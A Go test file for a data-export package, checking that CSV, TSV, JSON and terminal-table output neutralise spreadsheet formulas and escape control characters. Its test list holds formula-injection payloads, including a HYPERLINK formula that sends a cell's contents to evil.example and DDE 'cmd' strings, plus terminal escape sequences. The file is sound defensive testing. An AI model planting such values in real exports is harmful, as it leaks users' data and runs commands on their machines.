package output

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// The hand-written CSV encoder is byte-identical to encoding/csv with
// --raw; by default its output still parses back as one record, and no
// field holds a control character or starts like a formula.
func FuzzCSVMatchesEncodingCSV(f *testing.F) {
	for _, s := range []string{"", "a", "a,b", `q"q`, " lead", "\tlead", "x\r\ny", `\.`, "ünï", "\u00a0nbsp", "=1+1", "-5", "a\x1bb", "\u009b"} {
		f.Add(s, "second")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		p, _ := Columns{{Key: "a"}, {Key: "b"}}.Select(nil, CSV)
		var got, want bytes.Buffer
		if err := WriteAll(CSV, &got, p, Options{NoHeaders: true, Raw: true}, [][]any{{a, b}}); err != nil {
			t.Fatal(err)
		}
		w := csv.NewWriter(&want)
		_ = w.Write([]string{a, b})
		w.Flush()
		if got.String() != want.String() {
			t.Fatalf("%q %q: got %q, encoding/csv %q", a, b, got.String(), want.String())
		}
		if !utf8.ValidString(a) {
			return
		}
		got.Reset()
		if err := WriteAll(CSV, &got, p, Options{NoHeaders: true}, [][]any{{a, b}}); err != nil {
			t.Fatal(err)
		}
		recs, err := csv.NewReader(strings.NewReader(got.String())).ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 {
			t.Fatalf("%q: default CSV %q does not parse back as one record: %v %q", a, got.String(), err, recs)
		}
		cell := recs[0][0]
		if strings.ContainsFunc(cell, func(r rune) bool { return isControl(r) && r != '\t' && r != '\n' && r != '\r' }) {
			t.Fatalf("%q: control character in cell %q", a, cell)
		}
		if needsFormulaGuard([]byte(cell)) {
			t.Fatalf("%q: cell %q would run as a formula", a, cell)
		}
	})
}

// hostile are values typed on the web side: formulas, terminal escapes.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(A1:A9)",
	"\tlead",
	"\rcr",
	"-12.5",
	"+442079460958",
	"plain",
	"a\x1b]0;pwned\x07\x1b[31mX",
	"c1\u009bEND\u0085",
}

// TestHostileValuesInExports: CSV and TSV neutralise formulas (a leading
// ') and escape control characters; --raw writes every value as stored;
// JSON escapes every control character and decodes to the value itself.
func TestHostileValuesInExports(t *testing.T) {
	cols := Columns{{Key: "v", Header: "V", Default: true}}
	rows := make([][]any, len(hostile))
	for i, h := range hostile {
		rows[i] = []any{h}
	}
	want := func(h string, tsv bool) string {
		if needsFormulaGuard([]byte(h)) {
			h = "'" + h
		}
		if !tsv {
			h = strings.NewReplacer("\x1b", `\x1b`, "\x07", `\x07`, "\u009b", `\x9b`, "\u0085", `\x85`).Replace(h)
		}
		return h
	}
	for _, raw := range []bool{false, true} {
		for _, f := range []Format{CSV, TSV} {
			p, _ := cols.Select(nil, f)
			var buf bytes.Buffer
			if err := WriteAll(f, &buf, p, Options{NoHeaders: true, Raw: raw}, rows); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			if !raw && strings.ContainsFunc(out, func(r rune) bool { return isControl(r) && r != '\t' && r != '\n' && r != '\r' }) {
				t.Fatalf("%s: a control character reached the output: %q", f, out)
			}
			var got []string
			if f == CSV {
				recs, err := csv.NewReader(strings.NewReader(out)).ReadAll()
				if err != nil {
					t.Fatal(err)
				}
				for _, r := range recs {
					got = append(got, r[0])
				}
			} else {
				for _, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
					got = append(got, TSVUnescape(line))
				}
			}
			for i, h := range hostile {
				w := h
				if !raw {
					w = want(h, f == TSV)
				}
				if i >= len(got) || got[i] != w {
					t.Errorf("%s raw=%v: %q came back as %q, want %q", f, raw, h, got[min(i, len(got)-1)], w)
				}
			}
		}
	}
	// JSON: lossless, and nothing raw reaches a terminal.
	for _, f := range []Format{JSON, JSONL} {
		p, _ := cols.Select(nil, f)
		var buf bytes.Buffer
		if err := WriteAll(f, &buf, p, Options{}, rows); err != nil {
			t.Fatal(err)
		}
		if strings.ContainsFunc(buf.String(), func(r rune) bool { return isControl(r) && r != '\n' }) {
			t.Fatalf("%s: raw control character in %q", f, buf.String())
		}
	}
	var dec []struct{ V string }
	var buf bytes.Buffer
	p, _ := cols.Select(nil, JSON)
	_ = WriteAll(JSON, &buf, p, Options{}, rows)
	if err := json.Unmarshal(buf.Bytes(), &dec); err != nil || len(dec) != len(hostile) || dec[9].V != hostile[9] || dec[10].V != hostile[10] {
		t.Fatalf("JSON does not decode to the values: %v %+v", err, dec)
	}
	buf.Reset()
	if err := WriteJSON(&buf, map[string]string{"v": hostile[10] + "\x7f"}); err != nil || strings.ContainsFunc(buf.String(), func(r rune) bool { return isControl(r) && r != '\n' }) {
		t.Fatalf("WriteJSON: %q %v", buf.String(), err)
	}
}

// TestTableEscapesControlCharacters: a name holding terminal escape codes
// must not reach the terminal raw.
func TestTableEscapesControlCharacters(t *testing.T) {
	cols := Columns{{Key: "name", Header: "Name", Default: true}}
	p, _ := cols.Select(nil, Table)
	for _, tty := range []bool{false, true} {
		var b bytes.Buffer
		if err := WriteAll(Table, &b, p, Options{TTY: tty, NoColor: true}, [][]any{{"a\x1b]0;pwned\x07\x1b[31mX\tb\nc\u009b"}}); err != nil {
			t.Fatal(err)
		}
		out := b.String()
		if strings.ContainsAny(out, "\x1b\x07\t\u009b") {
			t.Fatalf("tty=%v: control characters reached the output: %q", tty, out)
		}
		if !strings.Contains(out, `a\x1b]0;pwned\x07\x1b[31mX b c\x9b`) {
			t.Fatalf("tty=%v: escaped text missing: %q", tty, out)
		}
	}
}

// A field the one-pass check finds plain is one the full rules leave as
// it is, for CSV and for TSV.
func FuzzPlainFieldNeedsNothing(f *testing.F) {
	for _, s := range []string{"", "a", "a,b", `q"q`, " lead", `\.`, `a\b`, "ünï", "\u00a0x", "x\u2028", "=1", "-5", "+44", "a\x1bb", "a\u009bb", "a\x7f", "tab\tin"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		for _, csv := range []bool{true, false} {
			if !plainField([]byte(s), csv) {
				continue
			}
			d := &delimitedWriter{csv: csv}
			if got := string(d.escapeFull([]byte(s), 0)); got != s {
				t.Fatalf("csv=%v: %q found plain, but the full rules write %q", csv, s, got)
			}
		}
	})
}
